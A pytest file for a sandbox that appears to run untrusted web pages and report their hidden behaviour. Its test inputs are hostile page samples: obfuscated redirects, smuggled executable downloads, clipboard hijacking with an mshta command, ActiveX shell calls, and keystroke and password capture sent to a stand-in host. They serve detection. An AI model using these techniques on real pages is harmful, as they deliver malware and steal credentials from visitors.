"""Pages are played: what their scripts do is told, whatever they are written like, and ends."""

from __future__ import annotations

import base64
import resource

import pytest

from gateway.extract.effort import Stage
from gateway.extract.page import played
from gateway.extract.page.played import Play, play

TO = "https://away.example/x"
B64 = base64.b64encode(TO.encode()).decode()
PROGRAM = b"MZ" + bytes(range(200))
SAVES = f"var b=new Blob([Uint8Array.from(atob('{base64.b64encode(PROGRAM).decode()}'),c=>c.charCodeAt(0))]);"


def cpu() -> float:
    used = resource.getrusage(resource.RUSAGE_SELF)
    return used.ru_utime + used.ru_stime


def on_stage(source: str) -> Play:
    made = play(source, Stage(1.0, cpu))
    assert made is not None
    return made


def led(source: str) -> set[tuple[str, str, str]]:
    return {(act.kind, act.phase, act.detail) for act in on_stage(source).of("goes", "submits", "frame", "asks", "calls")}


@pytest.mark.parametrize("source", [
    f"<script>location=atob('{B64}')</script>", f"<body onload=\"self['loc'+'ation'].href='{TO}'\">",
    f"<script>const u='{TO}'</script><script>setTimeout(()=>top.location.replace(u),5000)</script>",
    f"<script type=module>import u from 'data:text/javascript,export default \"{TO}\"'; location.assign(u)</script>",
    f"<p id=k><!--{B64}--></p><script>open(atob(k.firstChild.data), '_self')</script>",
    f"<style>:root{{--u:'{TO}'}}</style><script>location=getComputedStyle(document.documentElement).getPropertyValue('--u').slice(1,-1)</script>",
    f"<script>$(function(){{location='{TO}'}})</script>", f"<img src=x onerror=\"location='{TO}'\">",
    f"<script>(async()=>{{jQuery(()=>{{navigation.navigate('{TO}')}})}})()</script>",
    f"<script>(async()=>{{const z=await lib.go();await z;await other;location='{TO}'}})()</script>",
    f"<script>var z=new Zip();z.make({{}}).then(b=>{{location='{TO}'}})</script>",
    f"<script>onunhandledrejection=()=>location='{TO}';(async()=>{{Promise.reject(1)}})()</script>",
    f"<script>onerror=()=>{{location='{TO}'}};missing.call()</script>",
    f"<script>new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage=()=>{{document.location='{TO}'}}</script>",
    f"<a id=a href='{TO}'></a><script>a.dispatchEvent(new MouseEvent('click'))</script>",
    f"<script>document.write('<scr'+'ipt>location=\"{TO}\"</scr'+'ipt>')</script>",
    f"<script>document.head.innerHTML+='<meta http-equiv=refresh content=\"0;url={TO}\">'</script>",
    f"<script>var t=performance.now();while(performance.now()-t<9000);if(!navigator.webdriver)location='{TO}'</script>",
    f"<script>Array.prototype.push=JSON.stringify=()=>{{throw 1}};location='{TO}'</script>",
    f"<script>Object.prototype.toJSON=String.prototype.slice=()=>1;location='{TO}'</script>",
    f"<script>class X extends HTMLElement{{connectedCallback(){{location='{TO}'}}}};customElements.define('x-y',X)</script><x-y></x-y>",
])
def test_where_pages_go_unasked(source):
    assert led(source) == {("goes", "load", TO)}


@pytest.mark.parametrize(("source", "expected"), [
    (f"<script>onmousemove=()=>location='{TO}'</script>", ("goes", "stir", TO)),
    (f"<a id=b onclick=\"location='{TO}'\">x</a>", ("goes", "click", TO)),
    (f"<body onclick=\"location='{TO}'\">x", ("goes", "stir", TO)), (f"<html onmousemove=\"location='{TO}'\">x", ("goes", "stir", TO)),
    (f"<body onresize=\"location='{TO}'\">x", ("goes", "stir", TO)), (f"<p>x<body onpageshow=\"location='{TO}'\">", ("goes", "load", TO)),
    (f"<body onhashchange=\"location='{TO}'\"><script>location.hash=1</script>", ("goes", "load", TO)),
    (f"<body onerror=\"location='{TO}'\"><script>throw 1</script>", ("goes", "load", TO)),
    (f"<form id=f action='{TO}'></form><script>f.submit()</script>", ("submits", "load", TO)),
    (f"<script>document.body.innerHTML='<iframe src=\"{TO}\">'</script>", ("frame", "load", TO)),
    (f"<script>fetch('{TO}').then(r=>r.text()).then(eval)</script>", ("asks", "load", TO)),
    ("<script>location='search-ms:query=x'</script>", ("calls", "load", "search-ms:query=x")),
])
def test_other_ways_out(source, expected):
    assert expected in led(source)


@pytest.mark.parametrize("source", [
    "<script>if(top!==self)top.location.href=self.location.href</script>", "<script>location.replace('html/index.html')</script>",
    "<script>if(/Android|iPhone/.test(navigator.userAgent))location='https://m.example/'</script>",
    "<select onchange='if(this.value)location=this.value'><option value=''></select>",
    "<script>if(location.hash)document.querySelector(location.hash).click()</script>",
    "<a id=m></a><script>m.href='mailto:a@b.example'</script>",
])
def test_pages_that_stay(source):
    assert led(source) == set()


@pytest.mark.parametrize(("script", "phase"), [
    ("var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.exe';a.click()", "load"),
    ("location=URL.createObjectURL(b)", "load"), ("navigator.msSaveBlob(b,'x.exe')", "load"), ("saveAs(b,'x.exe')", "load"),
    ("var r=new FileReader();r.onload=()=>open(r.result);r.readAsDataURL(b)", "load"),
    ("document.body.onkeydown=()=>navigator.msSaveBlob(b,'x.exe')", "stir"),
    ("document.body.innerHTML='<button id=s>';s.onclick=async()=>{let h=await showSaveFilePicker(),w=await h.createWritable();"
     "await w.write(b);w.close()}", "click"),
])
def test_files_that_pages_write(script, phase):
    made = on_stage(f"<script>{SAVES}{script}</script>").of("file")
    assert {(act.phase, act.octets) for act in made} >= {(phase, PROGRAM)}


def test_packed_streams_are_unpacked():
    packed = "H4sIAAAAAAACA8soKSmw0tdPLUvM0UutSMwtyEnVBwDDHhaiEwAAAA=="
    script = (f"new Response(new Blob([Uint8Array.from(atob('{packed}'),c=>c.charCodeAt(0))]).stream()"
              ".pipeThrough(new DecompressionStream('gzip'))).text().then(t=>location=t)")
    assert {kind for kind, _, _ in led(f"<script>{script}</script>")} == {"goes"}


def test_what_stands_there_in_the_end():
    form = base64.b64encode(b"<p>Log in</p><input type=password>").decode()
    made = on_stage(f"<p>Wait</p><script>document.write(atob('{form}'))</script>")
    assert made.asks and "Log in" in made.shown and "<script" not in made.markup and made.followed
    assert not on_stage("<p>Wait</p><script>document.title='x'</script>").asks
    unseen = on_stage("<p>Wait</p><b style='opacity:0'>one</b><b style='opacity:0.9'>two</b><b style='font-size:0'>three</b><script>1</script>").shown
    assert "one" not in unseen and "three" not in unseen and "two" in unseen
    assert on_stage("<script>document.body.innerHTML='<b>x</b>'</script>").markup
    assert on_stage("<script>1</script>").markup == ""


@pytest.mark.parametrize("script", [
    "for(;;);", "/(a+)+$/.test('a'.repeat(60)+'b')", "(function f(){setTimeout(f)})()", "(async()=>{for(;;)await 1})()",
    "a=[];for(;;)a.push(new Uint8Array(1e6))", "while(1)document.write('<p>')", "for(;;)open('https://a.example/'+Math.random())",
    "for(;;){try{(function f(){f()})()}catch(e){}}", "document.body.innerHTML='<p>'.repeat(1e6)",
])
def test_every_play_ends(script):
    began = cpu()
    made = on_stage(f"<script>{script}</script>")
    assert not made.ended and cpu() - began < 3 * played.SECONDS


@pytest.mark.parametrize("script", [
    "new Array(4e9).join()", "Array.prototype.splice.call({length:9e15},0,1)", "'a'.repeat(1e6).indexOf('a'.repeat(5e5)+'b')",
    "[].concat(new Proxy([],{get:(t,k)=>k==='length'?9e15:t[k]}))", "'a'.repeat(1e6).replaceAll('a'.repeat(5e5)+'b','')",
])
def test_loops_of_the_engine_itself_are_not_begun(script):
    assert on_stage(f"<script>{script}</script>").of("died")


def test_a_script_that_dies_is_not_followed():
    assert not on_stage("<script>null.x</script>").followed
    assert not on_stage("<script>Promise.resolve().then(()=>null.x)</script>").followed
    assert on_stage("<script>try{null.x}catch{}</script>").followed


def test_the_same_page_plays_the_same():
    source = "<script>document.write(Math.random(), new Date(), performance.now(), crypto.randomUUID())</script>"
    assert on_stage(source) == on_stage(source)


def test_the_stage_is_paid_for():
    assert play("<script>1</script>", Stage(played.LEAST_SECONDS)) is None and play("<script>1</script>", Stage(0)) is None
    assert play(f"<script>{'1;' * (played.LARGEST // 2)}</script>", Stage()) is None
    large = play(f"<script>location='{TO}'</script>" + " " * played.LARGEST, Stage())
    assert large is not None and large.of("goes")
    stage = Stage(1.0)
    assert play("<script>1</script>", stage) is not None and stage.left < 1.0


def test_endless_pages_leave_time_for_others():
    stage = Stage(1.0, cpu)
    for _ in range(played.WASTED):
        endless = play("<script>for(;;);</script>", stage)
        assert endless is not None and endless.spent
    last = play(f"<script>location='{TO}'</script>", stage)
    assert last is not None and last.of("goes")
    stage.left = played.LEAST_SECONDS
    unplayed = play(f"<script>location='{TO}'</script>", stage)
    assert unplayed is not None and unplayed.spent and not unplayed.acts


def test_pages_that_end_before_their_time_is_up_use_it_up_as_well():
    stage = Stage(1.0, cpu)
    began = cpu()
    play(BUSY % 1_000_000, Stage(5.0, cpu))
    million = cpu() - began
    for _ in range(40):
        found = play(BUSY % int(0.8 * min(played.SECONDS, stage.left / 2) / million * 1_000_000), stage)
        assert found is not None
        if found.spent:
            break
    assert found.spent and not found.acts


BUSY = "<script>for(var i=0,x=0;i<%d;i++)x+=i</script>"


def test_texts_that_the_engine_cannot_be_given():
    assert led(f"<p>\0\ud800</p><script>location='{TO}'</script>") == {("goes", "load", TO)}
    assert on_stage("<script>document.title='\\ud800';'\\ud800'</script>").ended
    assert on_stage("<script>throw '\\ud800\\0'</script>").ended


def test_signs_that_end_lines_elsewhere():
    assert led(f"<script>location='{TO}?\u2028\x85'</script>") == {("goes", "load", f"{TO}?\u2028\x85")}


def test_one_browser_is_made_ahead():
    played.make_ready()
    played.make_ready()
    assert len(played._ready) == 1
    on_stage("<script>1</script>")
    assert not played._ready


def test_objects_of_the_old_browser():
    made = "<script>eval(atob('bmV3IEFjdGl2ZVhPYmplY3QoJ1dTY3JpcHQuU2hlbGwnKS5ydW4oMSk='))</script>"
    assert led(made) == {("calls", "load", "WScript.Shell")}
    assert led("<script>x=window.ActiveXObject?new ActiveXObject('Shell.Application'):new XMLHttpRequest()</script>") == set()
    assert led("<script>try{x=new ActiveXObject('Msxml2.XMLHTTP')}catch(e){}</script>") == set()
    assert led("<script>try{new ActiveXObject('WScript.Sh'+'ell')}catch(e){}</script>") == {("calls", "load", "WScript.Shell")}


@pytest.mark.parametrize("source", [
    f"<a id=c></a><a id=c name=u href='{TO}'></a><script>location=c.u+''</script>",
    f"<form id=f><input name=k value='{B64}'></form><script>location=atob(f.k.value)</script>",
    f"<a is=x-go href='{TO}'></a><script>customElements.define('x-go',class extends HTMLAnchorElement{{connectedCallback(){{this.click()}}}},{{extends:'a'}})</script>",
])
def test_elements_by_their_names(source):
    assert {(kind, detail) for kind, _, detail in led(source)} == {("goes", TO)}


@pytest.mark.parametrize("source", [
    "<script>new WebSocket('wss://h.example/').onmessage=e=>(0,eval)(e.data)</script>",
    "<script>new RTCPeerConnection({iceServers:[{urls:'turn:h.example'}]}).createDataChannel('x').onmessage=e=>document.write(e.data)</script>",
    "<script>fetch('https://h.example/').then(r=>r.text()).then(t=>{location=t})</script>",
    "<script>fetch('https://h.example/').then(r=>r.json()).then(j=>{document.body.innerHTML=j.page})</script>",
    "<iframe src='https://h.example/' hidden></iframe><script>onmessage=e=>document.write(e.data)</script>",
])
def test_where_answers_of_the_web_end_up(source):
    assert any(kind == "goes" and "the web" in detail for kind, _, detail in led(source))


def test_answers_that_are_only_shown():
    assert not on_stage("<b id=n></b><script>fetch('https://h.example/').then(r=>r.text()).then(t=>{n.textContent=t})</script>").of("goes")


def test_style_sheets_that_write_forms():
    sheet = "<xsl:stylesheet><xsl:template match='/'><form><input type='password'/></form></xsl:template></xsl:stylesheet>"
    applied = f"x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString(`{sheet}`,'text/xml'));document.body.append(x.transformToFragment(document,document))"
    assert on_stage(f"<script>{applied}</script>").asks


@pytest.mark.parametrize("source", [
    "<script>document.oncopy=e=>{e.clipboardData.setData('text/plain','mshta h.example');e.preventDefault()};document.execCommand('copy')</script>",
    "<b id=c>mshta h.example</b><script>r=document.createRange();r.selectNodeContents(c);getSelection().addRange(r);document.execCommand('copy')</script>",
    "<b id=c>mshta h.example</b><input><script>getSelection().selectAllChildren(c);document.execCommand('copy')</script>",
    "<input id=c value='mshta h.example'><input><script>c.select();document.execCommand('copy')</script>",
    "<textarea>mshta h.example</textarea><script>document.execCommand('copy')</script>",
    "<p draggable=true id=d>x</p><script>d.ondragstart=e=>e.dataTransfer.setData('text/plain','mshta h.example')</script>"])
def test_what_is_put_on_the_clipboard(source):
    assert "mshta h.example" in {act.detail for act in on_stage(source).of("copies")}


@pytest.mark.parametrize(("field", "use"), [
    ("<input id=w><button id=o>Open</button>", "o.onclick=()=>open_(w.value)"), ("", "setTimeout(()=>open_(prompt('Code')),50)")])
def test_words_of_the_mail_are_typed(field, use):
    cipher = [byte ^ ord("4821"[n % 4]) for n, byte in enumerate(PROGRAM)]
    page = f"{field}<script>function open_(k){{var d={cipher}.map((c,i)=>c^k.charCodeAt(i%k.length));if(d[0]===77)" \
           f"navigator.msSaveBlob(new Blob([new Uint8Array(d)]),'a.exe')}};{use}</script>"
    made = play(page, Stage(1.0, cpu), ("4821", "other"))
    assert made is not None and PROGRAM in {act.octets for act in made.of("file")}
    assert not on_stage(page).of("file")


def test_pictures_that_carry_away_what_was_typed():
    page = f"<img id=i src='{TO}'><input type=password onchange=\"i.src='{TO}?'+this.value\"><script>new Image().src='{TO}'</script>"
    assert [(act.phase, act.detail.partition("?")[0]) for act in on_stage(page).of("asks")] == [("click", TO)]


@pytest.mark.parametrize("source", [
    f"<iframe name='{B64}' src='about:blank'></iframe><script>onload=()=>{{if(length==1)location=atob(frames[0].name)}}</script>",
    f"<iframe name=here src='about:blank'></iframe><script>onload=()=>{{if(here.name=='here'&&here.document)location='{TO}'}}</script>",
    f"<script>var f=document.createElement('form');f.innerHTML='<input name=p>';f.p.value='{TO}';location=f.p.value</script>",
])
def test_frames_and_fields_by_their_names(source):
    assert led(source) == {("goes", "load", TO)}


def test_what_is_typed_without_a_field():
    page = f"<script>let q='';document.onkeyup=e=>{{if(e.code=='Enter')fetch('{TO}?'+q);else q+=e.key}}</script>"
    assert ("asks", "click", f"{TO}?123456") in led(page)


def test_words_that_are_drawn_are_shown():
    assert "Your code" in on_stage("<canvas></canvas><script>document.querySelector('canvas').getContext('2d').fillText('Your code',1,1)</script>").shown


def test_bars_that_fill_for_long():
    for steps in (700, 1200):
        bar = f"(function f(n){{n<{steps}?setTimeout(f,20,n+1):location=atob('{B64}')}})(0)"
        assert led(f"<script>{bar}</script>") == {("goes", "load", TO)}
    clock = on_stage("<script>(function f(){setTimeout(f,20)})()</script>")
    assert not clock.ended and not clock.spent


LINKS = "a=document.createElement('a');a.href=URL.createObjectURL(new Blob([Uint8Array.from(D,c=>c.charCodeAt(0))]));a.download='x.bin';a.click()"


@pytest.mark.parametrize("source", [
    "<form id=f><input name=d value=TVqQAAMAAAA></form><script>f.addEventListener('formdata',e=>{const D=atob(e.formData.getAll('d').join(''));"
    + LINKS + "});new FormData(f)</script>",
    "<button onclick=\"navigator.share({files:[new File([atob('TVqQAAMAAAA')],'x.bin')]})\">Send</button>",
    "<p id=d draggable=true>Drag</p><script>d.ondragstart=e=>e.dataTransfer.setData('DownloadURL','a/b:x.bin:'+URL.createObjectURL(new Blob(['12345678'])))</script>",
    "<script>w=new SharedWorker(URL.createObjectURL(new Blob(['onconnect=e=>e.ports[0].postMessage(1)'])));"
    "w.port.onmessage=()=>{D='12345678';" + LINKS + "}</script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'><![CDATA[D='12345678';" + LINKS + "]]></h:script><h:p>x</h:p>",
    "<script>h=new Headers({'X-A':'1234'});h.append('x-b','5678');D='';h.forEach(v=>D+=v);if(h.get('x-a')&&new Headers(h).has('X-B')){" + LINKS + "}</script>",
    "<script>f=new FormData();f.append('a','0');f.set('a','1234');f.append('a','5678');D=[...f.values()].join('');if(D.length==8){" + LINKS + "}</script>",
    "<script>z=new JSZip();z.file('x.bin','TVqQAAMAAAAEAAAA',{base64:true});z.generateAsync({type:'blob'}).then(b=>saveAs(b,'y.zip'))</script>",
    "<script>z=new JSZip();z.folder('a').file('x.bin',new Uint8Array(9))</script>",
    "<table><tr><td bgcolor='#313233'></td><td bgcolor='#343536'></td></table><script>D=[...document.querySelectorAll('td')].map(t=>"
    "t.bgColor.slice(1).replace(/../g,h=>String.fromCharCode('0x'+h))).join('')+'78';" + LINKS + "</script>",
    "<map><area shape=poly coords=49,50,51,52,53,54,55,56></map><script>D=String.fromCharCode(...document.querySelector('area').coords.split(','));"
    + LINKS + "</script>",
    "<style>p{color:red} @keyframes k{0%{left:49px}50%{left:50px}100%{left:51px}} .a{}</style><script>r=document.styleSheets[0].cssRules;"
    "D=[...r[1].cssRules].map(k=>String.fromCharCode(parseInt(k.style.left))).join('')+'45678';if(r.length==3&&r[1].name=='k'){" + LINKS + "}</script>",
    "<a-b src=12345678></a-b><script>customElements.define('a-b',class extends HTMLElement{static get observedAttributes(){return['src']}"
    "attributeChangedCallback(k,o,D){" + LINKS + "}})</script>",
    "<iframe srcdoc=\"<script>parent.postMessage([49,50,51,52,53,54,55,56],'*')</script>\"></iframe><script>onmessage=e=>{if(e.data.length!=8)return;"
    "D=String.fromCharCode(...e.data);" + LINKS + "}</script>",
    "<script>onmessage=e=>{if((D=e.data).length==8){" + LINKS + "}};f=document.createElement('iframe');"
    "f.src='data:text/html,<script>top.postMessage(\"12345678\")<\\/script>';document.body.append(f)</script>",
    "<script>D='12345678';if(!('ontouchstart' in window||'ontouchend' in document.documentElement)){" + LINKS + "}</script>",
    "<script>t=new Date();D='12345678';if(t.getHours()==10&&t.getDay()==1&&t.getFullYear()==2026){" + LINKS + "}</script>",
])
def test_other_ways_to_a_file(source):
    assert [act.detail.split()[1] for act in on_stage(source).of("file")][:1] == ["x.bin"]


@pytest.mark.parametrize(("call", "told"), [
    ("emailjs.send('a','b',{p:q.value})", True), ("$.ajax({data:{a:[q.value]}})", True), ("axios.post('/a',`p=${q.value}`)", True),
    ("$('#t').DataTable({q:1})", False), ("track('search')", False)])
def test_what_is_typed_and_given_to_something_that_is_not_here(call, told):
    page = on_stage(f"<form><input id=q></form><script>document.forms[0].onsubmit=()=>{{{call}}}</script>")
    assert (("asks", "given") in {(act.kind, act.more) for act in page.acts}) is told
